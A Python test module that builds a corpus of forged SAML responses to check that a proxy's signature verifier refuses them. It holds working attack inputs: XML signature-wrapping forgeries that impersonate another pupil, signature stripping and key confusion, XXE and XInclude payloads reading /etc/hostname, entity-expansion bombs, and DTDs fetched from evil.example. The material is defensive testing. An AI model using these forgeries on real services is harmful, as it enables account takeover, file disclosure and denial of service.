"""The SAML attack corpus as documents: every forgery of the flow suites, and controls.

Each :class:`Case` builds one ``SAMLResponse`` (base64) from a genuine response of the GAR
simulator, with the forging tools of :mod:`tests.support.saml_forge`, and says whether
the proxy must accept it. The flow suites (``tests/flows/security``) post the same
attacks to the ACS; the unit suites (``tests/unit/proxy/saml``) give these documents to
the in-process verifier, and to pysaml2 + ``xmlsec1`` (the verifier it replaced), to
prove they refuse the same ones.
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from dataclasses import dataclass
from typing import Protocol

from lxml import etree

from gar_sim.users import get_user
from tests.support import saml_forge as forge

PUPIL = "lea-lefevre"
VICTIM = "chloe-benoit"
SCD = "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData"


class Genuine(Protocol):
    """Where the corpus gets genuine responses, keys and the SP's encryption certificate."""

    keys: forge.KeyPair
    encryption_cert_pem: bytes

    def response(self, user_id: str = PUPIL, **overrides) -> etree._Element:
        """A genuine response of the simulator (``overrides`` as in ``build_response``)."""

    def response_b64(self, user_id: str = PUPIL, **overrides) -> str:
        """The same, base64-encoded as the GAR posts it."""


@dataclass(frozen=True)
class Case:
    """One document of the corpus, and the proxy's expected verdict."""

    build: Callable[[Genuine], str]
    accepted: bool = False
    encrypted: bool = False


def become_victim(assertion: etree._Element) -> None:
    """The attacker's edit: the assertion now names another pupil."""
    victim = get_user(VICTIM)
    forge.set_attribute(assertion, "IDO", victim.ido)
    forge.set_attribute(assertion, "NOM", victim.nom)
    forge.set_attribute(assertion, "PRE", victim.pre)


def _encoded(build: Callable[[Genuine], etree._Element | str]) -> Callable[[Genuine], str]:
    def run(genuine: Genuine) -> str:
        built = build(genuine)
        return built if isinstance(built, str) else forge.encode(built)
    return run


def _resigned(response_signed: bool):
    def build(g: Genuine):
        response = g.response(sign_assertion=False, sign_response=False)
        forge.sign(forge.assertion_of(response), g.keys)
        return forge.sign(response, g.keys) if response_signed else response
    return build


def _xsw_response(variant: str):
    def build(g: Genuine):
        def edit(assertion):
            forge.strip_signature(assertion)
            become_victim(assertion)
        return forge.wrap(g.response(sign_response=True), variant, edit)
    return build


def _xsw_assertion(variant: str, response_signed: bool):
    def build(g: Genuine):
        wrapped = forge.wrap(g.response(sign_response=False), variant, become_victim)
        return forge.sign(wrapped, g.keys) if response_signed else wrapped
    return build


def _stripped(g: Genuine):
    response = g.response()
    forge.strip_signature(forge.assertion_of(response))
    return forge.strip_signature(response)


def _emptied(response_signed: bool):
    def build(g: Genuine):
        response = g.response(sign_response=response_signed)
        forge.signature_of(forge.assertion_of(response)).find(
            "ds:SignatureValue", forge.NS).text = ""
        return response
    return build


def _attacker_key(g: Genuine):
    response = g.response(sign_assertion=False, sign_response=False)
    become_victim(forge.assertion_of(response))
    forge.sign(forge.assertion_of(response), forge.attacker_keys())
    return forge.sign(response, forge.attacker_keys())


def _hmac(key_of: Callable[[forge.KeyPair], bytes]):
    def build(g: Genuine):
        response = g.response(sign_assertion=False, sign_response=False)
        become_victim(forge.assertion_of(response))
        forge.sign(forge.assertion_of(response), None, signature_method=forge.HMAC_SHA256,
                   hmac_key=key_of(g.keys))
        return response
    return build


def _algorithms(signature_method: str, digest_method: str):
    def build(g: Genuine):
        response = g.response(sign_assertion=False, sign_response=False)
        forge.sign(forge.assertion_of(response), g.keys, signature_method=signature_method,
                   digest_method=digest_method)
        return response
    return build


def _constant_xslt(g: Genuine):
    response = g.response(sign_assertion=False, sign_response=False)
    assertion = forge.sign(forge.assertion_of(response), g.keys)
    become_victim(assertion)
    forge.add_constant_xslt_transform(forge.signature_of(assertion), g.keys)
    return response


def _signed_response_unsigned_assertion(g: Genuine):
    response = g.response(sign_response=False)
    assertion = forge.assertion_of(response)
    forge.strip_signature(assertion)
    become_victim(assertion)
    return forge.sign(response, g.keys)


def _second_unsigned_assertion(g: Genuine):
    response = g.response(sign_response=False)
    evil = forge.strip_signature(copy.deepcopy(forge.assertion_of(response)))
    evil.set("ID", "_second_" + evil.get("ID"))
    become_victim(evil)
    response.append(evil)
    return forge.sign(response, g.keys)


def _second_signed_assertion(g: Genuine):
    response = g.response(sign_response=False)
    response.append(forge.assertion_of(g.response(VICTIM, sign_response=False)))
    return forge.sign(response, g.keys)


def _comment_in(where: str):
    def build(g: Genuine):
        response = g.response(sign_response=False)
        assertion = forge.assertion_of(response)
        if where == "NameID":
            target = assertion.find("saml:Subject/saml:NameID", forge.NS)
        else:
            target = forge.attribute_values(assertion, where)[0]
        text = target.text
        target.text = text[:3]
        comment = etree.Comment("")
        target.append(comment)
        comment.tail = text[3:]
        return response
    return build


def _edited(edit: Callable[[etree._Element], None]):
    def build(g: Genuine):
        response = g.response(sign_assertion=False, sign_response=False)
        assertion = forge.assertion_of(response)
        edit(assertion)
        forge.sign(assertion, g.keys)
        return response
    return build


def _set_time(path: str, attribute: str, seconds_from_now: int):
    def edit(assertion):
        assertion.find(path, forge.NS).set(attribute, forge.stamp(seconds_from_now))
    return edit


def _issuer_of_response(g: Genuine):
    response = g.response(sign_assertion=False, sign_response=False)
    response.find("saml:Issuer", forge.NS).text = "https://evil.example/idp"
    forge.sign(forge.assertion_of(response), g.keys)
    return forge.sign(response, g.keys)


def _without_response_issuer(g: Genuine):
    response = g.response(sign_response=False)
    response.remove(response.find("saml:Issuer", forge.NS))
    return response


def _tampered(g: Genuine):
    xml = base64.b64decode(g.response_b64())
    return base64.b64encode(xml.replace(get_user(PUPIL).ido.encode(),
                                        get_user(VICTIM).ido.encode())).decode("ascii")


def _with_object(g: Genuine):
    """The genuine signature plus a ds:Object carrying the victim's assertion (unsigned)."""
    response = g.response(sign_response=False)
    signature = forge.signature_of(forge.assertion_of(response))
    carried = copy.deepcopy(forge.assertion_of(g.response(VICTIM, sign_response=False)))
    etree.SubElement(signature, etree.QName(forge.DS, "Object")).append(
        forge.strip_signature(carried))
    return response


def _duplicate_id(g: Genuine):
    response = g.response(sign_response=False, sign_assertion=False)
    assertion = forge.assertion_of(response)
    response.set("ID", assertion.get("ID"))
    forge.sign(assertion, g.keys)
    return response


def _encrypted(**algorithms):
    def build(g: Genuine):
        response = g.response(sign_response=False)
        return forge.encrypt_assertion(response, g.encryption_cert_pem, **algorithms)
    return build


def _encrypted_name_id(content: str):
    def build(g: Genuine):
        response = g.response(sign_assertion=False, sign_response=False)
        assertion = forge.assertion_of(response)
        forge.encrypt_element(assertion.find("saml:Subject/saml:NameID", forge.NS),
                              "EncryptedID", g.encryption_cert_pem, content=content)
        forge.sign(assertion, g.keys)
        return response
    return build


def _encrypted_unsigned(response_signed: bool):
    def build(g: Genuine):
        return g.response_b64(encrypt_assertion=True, sign_assertion=False,
                              sign_response=response_signed)
    return build


LOL = (b'<!DOCTYPE r [<!ENTITY a "lollollollollollollollollollol">'
       + b"".join(b'<!ENTITY %s "%s">' % (chr(98 + i).encode(),
                                          (b"&" + chr(97 + i).encode() + b";") * 10)
                  for i in range(9))
       + b"]>")
DOCTYPES = {
    "external-entity": (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"),
    "billion-laughs": (LOL, "&j;"),
    "quadratic-blowup": (b'<!DOCTYPE r [<!ENTITY q "' + b"A" * 50_000 + b'">]>', "&q;" * 4),
    "external-dtd": (b'<!DOCTYPE r SYSTEM "https://evil.example/evil.dtd">', None),
    "parameter-entity": (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]>',
                         None),
}


def _doctype(case: str):
    def build(g: Genuine):
        doctype, reference = DOCTYPES[case]
        response = g.response(sign_response=False)
        if reference:  # the entity in the IDO, re-signed: only the DTD is wrong
            assertion = forge.assertion_of(response)
            forge.set_attribute(assertion, "IDO", "ENTITYREF")
            forge.sign(assertion, g.keys)
        body = etree.tostring(response)
        if reference:
            body = body.replace(b"ENTITYREF", reference.encode())
        return forge.encode(body, prolog=doctype)
    return build


def _xinclude(g: Genuine):
    response = g.response(sign_response=False)
    assertion = forge.assertion_of(response)
    value = forge.attribute_values(assertion, "IDO")[0]
    value.text = None
    etree.SubElement(value, "{http://www.w3.org/2001/XInclude}include",
                     href="file:///etc/hostname", parse="text")
    forge.sign(assertion, g.keys)
    return response


def _simulator(**overrides):
    def build(g: Genuine):
        return g.response_b64(**overrides)
    return build


SKEW = 60
CASES: dict[str, Case] = {
    # controls: genuine, re-signed, or edited where nothing signed changes
    "genuine-both-signed": Case(_simulator(sign_response=True), accepted=True),
    "genuine-assertion-signed": Case(_simulator(sign_response=False), accepted=True),
    "genuine-encrypted": Case(_simulator(encrypt_assertion=True), accepted=True,
                              encrypted=True),
    "resigned-assertion": Case(_encoded(_resigned(False)), accepted=True),
    "resigned-both": Case(_encoded(_resigned(True)), accepted=True),
    "skew-within-tolerance": Case(_simulator(time_shift=SKEW // 2), accepted=True),
    "response-without-issuer": Case(_encoded(_without_response_issuer), accepted=True),
    **{f"comment-in-{where}": Case(_encoded(_comment_in(where)), accepted=True)
       for where in ("NameID", "IDO", "NOM", "PRE")},
    **{f"encrypted-{name}": Case(_encoded(_encrypted(**algorithms)), accepted=True,
                                 encrypted=True)
       for name, algorithms in {
           "aes128-gcm": {"content": forge.AES128_GCM},
           "aes192-gcm": {"content": forge.AES192_GCM},
           "aes256-gcm-oaep-sha1-declared": {"content": forge.AES256_GCM,
                                             "oaep_digest": forge.SHA1},
           "oaep-sha256": {"oaep_digest": forge.SHA256},
           "oaep-label": {"oaep_label": b"pix-gar"},
           "xmlenc11-rsa-oaep": {"key_transport": forge.RSA_OAEP},
           "xmlenc11-rsa-oaep-mgf1sha256": {"key_transport": forge.RSA_OAEP,
                                            "mgf": forge.MGF1_SHA256},
           "xmlenc11-rsa-oaep-sha512-mgf1sha384": {"key_transport": forge.RSA_OAEP,
                                                   "oaep_digest": forge.SHA512,
                                                   "mgf": forge.MGF1_SHA384},
       }.items()},
    # XML signature wrapping
    **{f"{v}-response": Case(_encoded(_xsw_response(v))) for v in ("XSW1", "XSW2")},
    **{f"{v}-{'both' if signed else 'assertion'}-signed":
       Case(_encoded(_xsw_assertion(v, signed)))
       for v in ("XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8") for signed in (False, True)},
    # bad, foreign or weak signatures
    "stripped": Case(_encoded(_stripped)),
    "signature-value-emptied": Case(_encoded(_emptied(False))),
    "signature-value-emptied-response-signed": Case(_encoded(_emptied(True))),
    "attacker-key-cert-in-keyinfo": Case(_encoded(_attacker_key)),
    "hmac-sha256-keyed-with-cert-pem": Case(_encoded(_hmac(lambda keys: keys.cert_pem))),
    "hmac-sha256-keyed-with-cert-der-b64": Case(_encoded(_hmac(
        lambda keys: keys.cert_b64.encode()))),
    "rsa-sha1": Case(_encoded(_algorithms(forge.RSA_SHA1, forge.SHA256))),
    "sha1-digest": Case(_encoded(_algorithms(forge.RSA_SHA256, forge.SHA1))),
    "xslt-transform": Case(_encoded(_constant_xslt)),
    "object-in-signature": Case(_encoded(_with_object)),
    "signed-by-unknown-key": Case(_simulator(untrusted_signer=True)),
    "tampered-after-signing": Case(_tampered),
    "duplicate-id": Case(_encoded(_duplicate_id)),
    # exactly one signed assertion
    "unsigned": Case(_simulator(sign_assertion=False, sign_response=False)),
    "signed-response-unsigned-assertion": Case(_encoded(_signed_response_unsigned_assertion)),
    "second-unsigned-assertion": Case(_encoded(_second_unsigned_assertion)),
    "second-signed-assertion": Case(_encoded(_second_signed_assertion)),
    "encrypted-unsigned": Case(_encrypted_unsigned(False), encrypted=True),
    "encrypted-unsigned-response-signed": Case(_encrypted_unsigned(True), encrypted=True),
    # weak encryption
    "encrypted-rsa-1_5": Case(_encoded(_encrypted(key_transport=forge.RSA_1_5)),
                              encrypted=True),
    "encrypted-tripledes": Case(_encoded(_encrypted(content=forge.TRIPLEDES_CBC)),
                                encrypted=True),
    "encrypted-aes128-cbc": Case(_encoded(_encrypted(content=forge.AES128_CBC)),
                                 encrypted=True),
    "encrypted-aes256-cbc": Case(_encoded(_encrypted(content=forge.AES256_CBC)),
                                 encrypted=True),
    "encrypted-mgf1p-with-other-mgf": Case(_encoded(_encrypted(mgf=forge.MGF1_SHA256)),
                                           encrypted=True),
    "encrypted-name-id-aes128-cbc": Case(_encoded(_encrypted_name_id(forge.AES128_CBC))),
    # an encrypted key beside the data (SAML allows it; IdPs put it in the KeyInfo)
    "encrypted-key-beside-data": Case(_encoded(_encrypted(key_beside_data=True)),
                                      encrypted=True),
    # wrong parties, times
    "issuer-unknown": Case(_simulator(issuer="https://evil.example/idp")),
    "issuer-of-assertion-only": Case(_encoded(_edited(
        lambda a: setattr(a.find("saml:Issuer", forge.NS), "text",
                          "https://evil.example/idp")))),
    "issuer-of-response-only": Case(_encoded(_issuer_of_response)),
    "other-audience": Case(_simulator(audience="https://another-resource.example/sp")),
    "audience-missing": Case(_encoded(_edited(
        lambda a: a.find("saml:Conditions", forge.NS).remove(
            a.find("saml:Conditions/saml:AudienceRestriction", forge.NS))))),
    "wrong-recipient": Case(_simulator(recipient="https://evil.example/acs")),
    "recipient-missing": Case(_encoded(_edited(
        lambda a: a.find(SCD, forge.NS).attrib.pop("Recipient")))),
    "wrong-destination": Case(_simulator(destination="https://evil.example/acs")),
    "subject-in-response-to-other": Case(_simulator(subject_in_response_to="id-other")),
    "expired": Case(_simulator(time_shift=-3600)),
    "not-before-beyond-skew": Case(_simulator(time_shift=SKEW + 60)),
    "lifetime-negative": Case(_simulator(lifetime=-(SKEW + 60))),
    "conditions-not-before-future": Case(_encoded(_edited(
        _set_time("saml:Conditions", "NotBefore", SKEW + 60)))),
    "conditions-not-on-or-after-past": Case(_encoded(_edited(
        _set_time("saml:Conditions", "NotOnOrAfter", -SKEW - 60)))),
    "subject-confirmation-not-on-or-after-past": Case(_encoded(_edited(
        _set_time(SCD, "NotOnOrAfter", -SKEW - 60)))),
    "subject-confirmation-not-before-future": Case(_encoded(_edited(
        _set_time(SCD, "NotBefore", SKEW + 60)))),
    "status-responder": Case(_simulator(
        status="urn:oasis:names:tc:SAML:2.0:status:Responder", sign_assertion=False)),
    # hostile XML
    **{f"dtd-{case}": Case(_doctype(case)) for case in DOCTYPES},
    "xinclude": Case(_encoded(_xinclude)),
}
